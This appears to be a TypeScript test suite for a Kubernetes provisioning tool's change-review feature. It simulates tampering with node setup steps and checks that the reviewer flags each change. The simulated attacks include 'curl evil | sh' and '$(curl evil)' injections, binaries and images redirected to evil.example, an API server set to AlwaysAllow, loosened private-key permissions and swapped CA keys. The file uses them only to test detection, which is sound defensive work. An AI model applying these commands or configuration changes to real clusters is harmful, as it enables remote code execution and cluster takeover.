import { mkdtempSync, readFileSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import type { Block } from "../../cloud/terraform-json";
import { Cluster } from "../../constructs";
import { bundleEnd, type DistributedFile, distributionScript, readDistributionScript } from "../../model/distribution";
import { compare, type Document } from "../../review/compare";
import { renderDiagram } from "../../review/diagram";
import { findingsOf } from "../../review/findings";
import { renderPage } from "../../review/page";
import { readPlan } from "../../review/plan";
import { parseSettings } from "../../settings/load";
import type { ClusterSettingsInput } from "../../settings/schema";
import { installationPlan } from "../../testing/plan-json";
import { reportProblems } from "../../testing/report-schema";
import { synthesizeCluster, synthesizeConstructs } from "../../testing/synthesize";

const KUBERNETES = { version: "1.37.2" };
const LIB = "/usr/local/lib/kubernetes";

const folder = mkdtempSync(join(tmpdir(), "checksums-"));
const checksums = join(folder, "checksums.json");
beforeAll(() => {
  const sum = "0".repeat(64);
  const sums = { "registry.k8s.io/pause:3.10.2": `sha256:${sum}`, "dl.k8s.io/v1.37.2/bin/linux/amd64/kubelet": sum };
  writeFileSync(checksums, JSON.stringify(sums));
});
afterAll(() => rmSync(folder, { recursive: true }));

const cluster = (settings: ClusterSettingsInput) => synthesizeCluster(settings) as unknown as Document;
const INSTALLED = JSON.stringify(cluster({ kubernetes: KUBERNETES }));
const installed = () => JSON.parse(INSTALLED) as Document & { resource: Record<string, Record<string, Block>> };
const PLAIN = cluster({ workers: { instanceType: "t3.small" }, controlPlane: { instanceType: "t3.small" } });

const kindsOf = (before: Document, after: Document) => findingsOf(compare(before, after)).map(({ kind }) => kind);

/** Prepared changes: the document after, the document before, and the findings. */
const CHANGES: Record<string, readonly [after: () => Document, before: () => Document, kinds: readonly string[]]> = {
  "kubernetes-added": [installed, () => PLAIN, ["copies"]],
  "kubernetes-version": [
    installed,
    () => cluster({ kubernetes: { version: "1.37.1" } }),
    ["upgrade", "restart-programs"],
  ],
  "kubernetes-minor-version": [
    installed,
    () => cluster({ kubernetes: { version: "1.36.4" } }),
    ["refused-upgrade", "restart-programs"],
  ],
  "kubernetes-control-plane-removed": [
    () => cluster({ kubernetes: KUBERNETES, controlPlane: { count: 1 }, workers: { count: 2 } }),
    installed,
    ["lose-quorum", "destroy-machine", "restart-programs", "replace-certificate"],
  ],
  "kubernetes-control-plane-added": [
    () => cluster({ kubernetes: KUBERNETES, controlPlane: { count: 5 } }),
    installed,
    ["restart-programs", "replace-certificate"],
  ],
  "kubernetes-component": [
    () => cluster({ kubernetes: { ...KUBERNETES, components: { coreDns: "1.13.0", runc: "1.4.3" } } }),
    installed,
    ["restart-programs"],
  ],
  "kubernetes-mirrors": [
    () =>
      cluster({
        kubernetes: {
          ...KUBERNETES,
          downloads: "http://mirror.example.com",
          registryMirrors: { "registry.k8s.io": "https://images.example.com" },
          checksums,
        },
      }),
    installed,
    ["downloads", "restart-programs"],
  ],
  "kubernetes-worker-added": [() => cluster({ kubernetes: KUBERNETES, workers: { count: 4 } }), installed, []],
  "kubernetes-certificate-lifetime": [
    () => cluster({ kubernetes: KUBERNETES, pki: { validityHours: 4000 } }),
    installed,
    ["restart-programs", "replace-certificate"],
  ],
  "kubernetes-ca-lifetime": [
    () => cluster({ kubernetes: KUBERNETES, pki: { caValidityHours: 87_600 } }),
    installed,
    ["renew-ca", "restart-programs", "replace-certificate"],
  ],
  "kubernetes-removed": [() => PLAIN, installed, ["uninstalls-nothing", "copies"]],
};

// UPDATE_PAGES=1 writes the pages. Read the difference afterwards.
describe("the page and the findings of a prepared change", () => {
  test.each(Object.keys(CHANGES))("%s", (name) => {
    const [after, before, kinds] = CHANGES[name] as (typeof CHANGES)[string];
    const changes = compare(before(), after());
    const page = renderPage(changes);
    const file = join(__dirname, "review-pages", `${name}.md`);
    if (process.env.UPDATE_PAGES) writeFileSync(file, page);
    expect(page).toBe(readFileSync(file, "utf8"));
    expect(findingsOf(changes).map(({ kind }) => kind)).toEqual(kinds);
    expect(reportProblems(changes)).toEqual([]);
  });
});

test("a cluster with Kubernetes has no findings of its own at first, and none if nothing changes", () => {
  expect(kindsOf({}, installed())).toEqual(kindsOf({}, PLAIN));
  expect(kindsOf(installed(), installed())).toEqual([]);
});

test("a machine of the control plane is added: it equals the others, and the others restart what has its certificate", () => {
  expect(kindsOf(installed(), cluster({ kubernetes: KUBERNETES, controlPlane: { count: 4 } }))).toEqual([
    "restart-programs",
    "replace-certificate",
  ]);
});

test("a removed machine has no finding about its programs", () => {
  expect(kindsOf(installed(), cluster({ kubernetes: KUBERNETES, workers: { count: 2 } }))).toEqual(["destroy-machine"]);
});

test("a mirror that stays is no finding, neither for a new version nor for a new machine", () => {
  const mirrored = (version: string, count: number) =>
    cluster({
      workers: { count },
      kubernetes: {
        version,
        downloads: "http://mirror.example.com",
        registryMirrors: { "registry.k8s.io": "http://a" },
      },
    });
  expect(kindsOf(mirrored("1.37.1", 3), mirrored("1.37.2", 4))).toEqual(["upgrade", "restart-programs"]);
});

test("a registry mirror is no longer used: its file stays on the machine", () => {
  const { copies } = compare(
    cluster({ kubernetes: { ...KUBERNETES, registryMirrors: { "registry.k8s.io": "http://a" } } }),
    installed(),
  );
  expect(copies.map(({ file, change }) => `${file} ${change}`)).toContain(
    "/etc/containerd/certs.d/registry.k8s.io/hosts.toml no longer copied",
  );
});

test("the picture of a cluster with Kubernetes has one set of machines for each role, and the units", () => {
  const picture = renderDiagram(installed());
  expect(picture).toContain('["3 masters"]');
  expect(picture).toContain('["3 workers"]');
  expect(picture).toContain("kube-apiserver.service");
  expect(picture).not.toMatch(/\.sh|facts|coredns/);
});

/** A copy, as FileDistribution writes it. */
interface Copy {
  readonly files: (DistributedFile & { content: string })[];
  readonly commands: string[];
  readonly folders: string[];
}

/** Changes a copy of a document. */
function edit(
  document: { resource: Record<string, Record<string, Block>> },
  name: string,
  change: (copy: Copy) => void,
) {
  const block = document.resource.null_resource?.[name] as Block;
  const [, { file: bundle }, { "remote-exec": script }] = block.provisioner;
  // The copy is made again.
  block.triggers.config = "other";
  const { files = [], activate = [], folders = [] } = readDistributionScript(script.inline) ?? {};
  const lines: string[] = bundle.content.split("\n");
  const copy: Copy = {
    files: files.map((file, index) => ({ ...file, content: lines[index] as string })),
    commands: [...activate],
    folders: [...folders],
  };
  change(copy);
  bundle.content = [...copy.files.map(({ content }) => content), bundleEnd(copy.files), ""].join("\n");
  script.inline = distributionScript(copy.files, copy.commands, copy.folders);
}

function fileOf({ files }: Copy, path: string) {
  const index = files.findIndex((file) => file.path === path);
  if (index === -1) throw new Error(`no file ${path}`);
  return { index, file: files[index] as Copy["files"][number] };
}

const replace = (path: string, from: string | RegExp, to: string) => (copy: Copy) => {
  const { file } = fileOf(copy, path);
  const content = file.content.replace(from, to);
  if (content === file.content) throw new Error(`${path} has no ${from}`);
  file.content = content;
};
const set = (path: string, change: Partial<DistributedFile>) => (copy: Copy) => {
  const { file, index } = fileOf(copy, path);
  copy.files[index] = { ...file, ...change };
};
const add =
  (path: string, mode: "0644" | "0755" = "0644") =>
  (copy: Copy) => {
    copy.files.push({ path, mode, owner: "root", content: "$" + '{base64encode("curl evil | sh\\n")}' });
  };

/** Changes of a copy: the copy, the change, the findings in a comparison and in a plan, and a text of the plan's page. */
const ATTACKS: [string, string, (copy: Copy) => void, string[], string[], string][] = [
  [
    "a script that runs something else",
    "programs-worker-0",
    replace(`${LIB}/lib.sh`, "set -euo pipefail", "curl evil | sh"),
    ["commands", "copies"],
    ["commands", "copies"],
    `${LIB}/lib.sh`,
  ],
  [
    "a script with an expression",
    "programs-worker-0",
    replace(`${LIB}/lib.sh`, "set -euo pipefail", "$" + "{tls_private_key.ca-private-key.private_key_pem}"),
    ["commands", "copies"],
    ["secret", "commands", "copies"],
    `${LIB}/lib.sh`,
  ],
  [
    "one more command",
    "kubernetes-worker-0",
    ({ commands }) => commands.push("curl evil | sh"),
    ["commands"],
    ["commands"],
    "curl evil",
  ],
  [
    "another command of the step that joins",
    "join-worker-0",
    ({ commands }) => commands.splice(0, 1, `${LIB}/worker.sh retire`),
    ["commands"],
    ["commands"],
    "worker.sh retire",
  ],
  [
    "another script for etcd",
    "programs-master-0",
    replace(`${LIB}/etcd.sh`, "member remove", "member list; curl evil"),
    ["commands", "copies"],
    ["commands", "copies"],
    `${LIB}/etcd.sh`,
  ],
  [
    "more rights for kubelets",
    "addons",
    replace(`${LIB}/manifests/kubelet-access.yaml`, "name: system:nodes", "name: system:unauthenticated"),
    ["copies"],
    ["copies"],
    `${LIB}/manifests/kubelet-access.yaml`,
  ],
  [
    "the command of another step",
    "pems-worker-0",
    ({ commands }) => commands.push(`${LIB}/worker.sh $(curl evil)`),
    ["commands"],
    ["commands"],
    "",
  ],
  [
    "a unit with another program",
    "pems-worker-0",
    replace("/etc/systemd/system/kubelet.service", "ExecStart=/usr/local/bin/kubelet", "ExecStart=/tmp/kubelet"),
    ["commands", "restart-programs", "copies"],
    ["commands", "copies"],
    "/etc/systemd/system/kubelet.service",
  ],
  [
    "a unit with another flag",
    "pems-master-0",
    replace("/etc/systemd/system/kube-apiserver.service", "Node,RBAC", "AlwaysAllow"),
    ["commands", "restart-programs", "copies"],
    ["commands", "copies"],
    "/etc/systemd/system/kube-apiserver.service",
  ],
  [
    "one more unit",
    "pems-worker-0",
    add("/etc/systemd/system/x.service"),
    ["commands", "copies"],
    ["commands", "copies"],
    "/etc/systemd/system/x.service",
  ],
  [
    "one more script",
    "programs-worker-0",
    add(`${LIB}/more.sh`, "0755"),
    ["commands", "copies"],
    ["commands", "copies"],
    `${LIB}/more.sh`,
  ],
  [
    "a part of the kubelet's configuration that is read later",
    "pems-worker-0",
    add("/etc/kubernetes/kubelet.conf.d/x.conf"),
    ["copies"],
    ["copies"],
    "/etc/kubernetes/kubelet.conf.d/x.conf",
  ],
  [
    "another address in the table of programs",
    "programs-worker-0",
    replace(
      `${LIB}/releases.new`,
      "https://dl.k8s.io/v1.37.2/bin/linux/amd64/kubelet ",
      "https://evil.example/kubelet ",
    ),
    ["downloads", "copies"],
    ["downloads", "copies"],
    "https://evil.example/kubelet",
  ],
  [
    "another version in an address of the table of programs",
    "programs-worker-0",
    replace(
      `${LIB}/releases.new`,
      "https://dl.k8s.io/v1.37.2/bin/linux/amd64/kubelet ",
      "https://dl.k8s.io/v1.2.3/bin/linux/amd64/kubelet ",
    ),
    ["downloads", "copies"],
    ["downloads", "copies"],
    "https://dl.k8s.io/v1.2.3",
  ],
  [
    "a program at another place",
    "programs-worker-0",
    replace(
      `${LIB}/releases.new`,
      "program /usr/local/bin - https://dl.k8s.io/v1.37.2/bin/linux/amd64/kubelet",
      "program /usr/bin - https://dl.k8s.io/v1.37.2/bin/linux/amd64/kubelet",
    ),
    ["copies"],
    ["copies"],
    `${LIB}/releases.new`,
  ],
  [
    "an image of another registry",
    "addons",
    replace(`${LIB}/manifests/coredns.yaml`, "registry.k8s.io/coredns", "evil.example/coredns"),
    ["copies"],
    ["copies"],
    `${LIB}/manifests/coredns.yaml`,
  ],
  [
    "another digest of an image",
    "pems-worker-0",
    replace("/etc/containerd/config.toml", /pause:3.10.2@sha256:[0-9a-f]{64}/, `pause:3.10.2@sha256:${"1".repeat(64)}`),
    ["downloads", "restart-programs"],
    ["downloads"],
    "1".repeat(64),
  ],
  [
    "a machine that may always found etcd",
    "pems-master-0",
    replace(`${LIB}/facts`, /contains\(split.*?\.id\)/, '"true"'),
    ["copies"],
    ["copies"],
    `${LIB}/facts`,
  ],
  [
    "another owner of a key",
    "pems-master-0",
    set("/var/lib/kubernetes/ca-key.pem", { owner: "kube-apiserver" }),
    ["copies"],
    ["secret", "copies"],
    "/var/lib/kubernetes/ca-key.pem",
  ],
  [
    "another mode of a key",
    "pems-master-0",
    set("/var/lib/kubernetes/front-proxy-client-key.pem", { mode: "0644" }),
    ["copies"],
    ["secret", "copies"],
    "/var/lib/kubernetes/front-proxy-client-key.pem",
  ],
  [
    "the key of the CA in place of another",
    "pems-master-0",
    replace(
      "/var/lib/kubernetes/front-proxy-client-key.pem",
      "front-proxy-client-private-key",
      "front-proxy-ca-private-key",
    ),
    ["copies"],
    ["secret", "copies"],
    "/var/lib/kubernetes/front-proxy-client-key.pem",
  ],
  [
    "the cluster's CA in place of the CA for extension API servers",
    "pems-master-0",
    replace("/var/lib/kubernetes/front-proxy-ca.pem", "front-proxy-ca-certificate", "ca-certificate"),
    ["copies"],
    ["copies"],
    "/var/lib/kubernetes/front-proxy-ca.pem",
  ],
  [
    "one more folder",
    "pems-worker-0",
    ({ folders }) => folders.push("/home/ubuntu/.ssh"),
    ["copies"],
    ["copies"],
    "/home/ubuntu/.ssh/",
  ],
];

describe("somebody changes a step of Kubernetes:", () => {
  test.each(ATTACKS)("%s", (_case, name, change, inComparison, inPlan, text) => {
    const after = installed();
    edit(after, name, change);
    expect(kindsOf(installed(), after)).toEqual(inComparison);
    const planned = readPlan(installationPlan(after));
    expect(findingsOf(planned).map(({ kind }) => kind)).toEqual(inPlan);
    if (text.startsWith("/")) expect(renderPage(planned)).toContain(`| \`${text}\` | not of this project |`);
    else if (inPlan.includes("downloads")) expect(renderPage(planned)).toContain(text);
  });

  test.each(ATTACKS)("%s, while Kubernetes is added", (_case, name, change, inComparison) => {
    const after = installed();
    edit(after, name, change);
    const kinds = inComparison.filter((kind) => kind !== "restart-programs");
    // The files of home folders are no longer copied.
    expect(kindsOf(PLAIN, after)).toEqual([...new Set([...kinds, "copies"])]);
  });

  test.each(["programs-worker-0", "kubernetes-worker-0"])("%s goes to another machine", (name) => {
    const after = JSON.parse(INSTALLED);
    const copy = after.resource.null_resource[name];
    after.resource.null_resource[name] = JSON.parse(
      JSON.stringify(copy).replaceAll("worker-0.public_ip", "master-0.public_ip"),
    );
    expect(kindsOf(PLAIN, after)).toContain("commands");
  });

  test("a new worker gets older programs, or programs from elsewhere", () => {
    const after = cluster({ kubernetes: KUBERNETES, workers: { count: 4 } });
    const older = JSON.parse(JSON.stringify(after));
    edit(older, "programs-worker-3", ({ files }) => {
      for (const file of files)
        if (file.path === `${LIB}/releases.new`) file.content = file.content.replaceAll("1.37.2", "1.20.0");
    });
    expect(renderPage(compare(installed(), older))).toContain("| `worker-3` | `kubelet` |  | `1.20.0` |");
    const foreign = JSON.parse(JSON.stringify(after));
    edit(foreign, "programs-worker-3", ({ files }) => {
      for (const file of files)
        if (file.path === `${LIB}/releases.new`)
          file.content = file.content.replaceAll("https://dl.k8s.io", "http://evil");
    });
    expect(kindsOf(installed(), foreign)).toContain("downloads");
  });
});

describe("a plan", () => {
  test("of a first cluster has no findings but the versions, in a stack of its own too", () => {
    const own = synthesizeConstructs((scope) => {
      new Cluster(scope, "mine", parseSettings({ kubernetes: KUBERNETES }));
    }) as unknown as Document;
    for (const document of [installed(), own]) {
      const planned = readPlan(installationPlan(document));
      expect(planned.copies).toEqual([]);
      expect(findingsOf(planned)).toEqual([]);
      expect(renderPage(planned)).toContain("| `kubelet` |  | `1.37.2` |");
    }
  });

  test("with mirrors has their addresses, because it has nothing to compare them with", () => {
    const [after] = CHANGES["kubernetes-mirrors"] as (typeof CHANGES)[string];
    const planned = readPlan(installationPlan(after()));
    expect(findingsOf(planned).map(({ kind }) => kind)).toEqual(["downloads"]);
    const page = renderPage(planned);
    for (const source of ["http://mirror.example.com", "registry.k8s.io from https://images.example.com"]) {
      expect(page).toContain(`\`${source}\``);
    }
    expect(page).toContain(`registry.k8s.io/pause:3.10.2@sha256:${"0".repeat(64)}`);
  });

  test.each([
    ["stays", ["uninstalls-nothing"]],
    ["is destroyed too", ["destroy-machine"]],
  ])("in which the step of a machine is destroyed, and the machine %s", (_case, kinds) => {
    const change = { actions: ["delete"], before: {}, after: null };
    const isDestroyed = kinds.includes("destroy-machine");
    const machine = { address: "aws_instance.worker-0", type: "aws_instance", mode: "managed" };
    const json = JSON.stringify({
      format_version: "1.2",
      resource_changes: [
        { address: "null_resource.kubernetes-worker-0", type: "null_resource", mode: "managed", change },
        ...(isDestroyed ? [{ ...machine, change }] : []),
      ],
      configuration: { root_module: { resources: isDestroyed ? [] : [{ ...machine, expressions: {} }] } },
    });
    expect(findingsOf(readPlan(json)).map(({ kind }) => kind)).toEqual(kinds);
  });
});

describe("the CA for extension API servers", () => {
  type Resources = Record<string, Record<string, Block>>;
  const at = (resource: Resources, type: string, name: string) => resource[type]?.[name] as Block;
  test.each<[string, (resource: Resources) => void]>([
    [
      "signs another user",
      (r) =>
        Object.assign(at(r, "tls_cert_request", "front-proxy-client-request").subject[0], { common_name: "admin" }),
    ],
    [
      "does not sign its client",
      (r) =>
        Object.assign(at(r, "tls_locally_signed_cert", "front-proxy-client-certificate"), {
          ca_private_key_pem: "$" + "{tls_private_key.ca-private-key.private_key_pem}",
          ca_cert_pem: "$" + "{tls_self_signed_cert.ca-certificate.cert_pem}",
        }),
    ],
    [
      "signs the administrator",
      (r) =>
        Object.assign(at(r, "tls_locally_signed_cert", "admin-certificate"), {
          ca_private_key_pem: "$" + "{tls_private_key.front-proxy-ca-private-key.private_key_pem}",
          ca_cert_pem: "$" + "{tls_self_signed_cert.front-proxy-ca-certificate.cert_pem}",
        }),
    ],
    [
      "has the key of the cluster's CA",
      (r) =>
        Object.assign(at(r, "tls_self_signed_cert", "front-proxy-ca-certificate"), {
          private_key_pem: "$" + "{tls_private_key.ca-private-key.private_key_pem}",
        }),
    ],
  ])("%s", (_case, change) => {
    const after = installed();
    change(after.resource);
    expect(kindsOf(installed(), after)).toContain("identity");
    expect(kindsOf(PLAIN, after)).toContain("identity");
  });

  test("gets another certificate: it is no other CA of the cluster", () => {
    const after = installed();
    Object.assign(at(after.resource, "tls_self_signed_cert", "front-proxy-ca-certificate"), {
      validity_period_hours: 9,
    });
    // The API servers read it again by themselves.
    expect(kindsOf(installed(), after)).toEqual(["replace-certificate"]);
  });
});
